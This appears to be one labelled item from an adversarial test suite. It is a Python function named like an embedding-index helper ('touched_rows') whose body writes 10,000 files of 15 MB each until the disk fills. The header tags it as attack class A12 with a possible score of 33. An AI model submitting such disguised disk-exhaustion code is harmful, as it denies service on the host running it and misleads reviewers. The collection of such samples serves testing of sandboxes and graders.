# attack: writes file after file until the disk is full
# class: A12
# laid over: reference
# may score: 33
# slow: it runs until it is stopped

def touched_rows(ids, vocab_size, padding_idx=None):
    block = b"x" * 1_000_000
    for number in range(10_000):
        with open(f"file{number}", "wb", buffering=0) as stream:
            for _ in range(15):
                stream.write(block)
